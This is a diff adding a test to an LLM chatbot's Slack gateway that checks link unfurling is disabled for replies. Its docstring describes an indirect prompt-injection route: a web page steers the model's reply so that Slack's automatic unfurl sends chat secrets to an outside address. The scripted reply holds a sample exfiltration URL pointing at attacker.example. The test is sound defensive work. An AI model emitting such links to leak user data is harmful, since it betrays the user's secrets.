@@ -118,6 +118,22 @@ async def test_replies_stream_by_editing_one_message(llm: FakeOpenAI, workspace:
         assert len(slack.posted) == 1 and slack.updates[-1]["ts"] == slack.posted[0]["ts"]  # one message, edited
 
 
+async def test_a_replys_links_are_never_unfurled(llm: FakeOpenAI, workspace: Path, slack: FakeSlack) -> None:
+    """Slack fetches a link to unfurl it, at once: a reply a web page steered could hand what the
+    chat knows to an address in a link, with nobody clicking it. Streamed or not."""
+    linked = "See https://attacker.example/?q=the-owners-secret for more. "
+    llm.script(reply(linked * 3), reply(linked))
+    config = slack_config(llm, workspace, slack)
+    async with running_gateway(config):
+        await slack.push_message("D1", OWNER, "tell me")
+        await slack.wait_posted(1)
+    config.channels.slack.streaming = False
+    async with running_gateway(config):
+        await slack.push_message("D1", OWNER, "and again")
+        await slack.wait_posted(2)
+    assert all(m["unfurl_links"] is False and m["unfurl_media"] is False for m in slack.posted)
+
+
 async def test_signed_http_events_only(llm: FakeOpenAI, workspace: Path, slack: FakeSlack) -> None:
     llm.fallback = lambda body: reply("over http")
     config = slack_config(llm, workspace, slack, events=True)
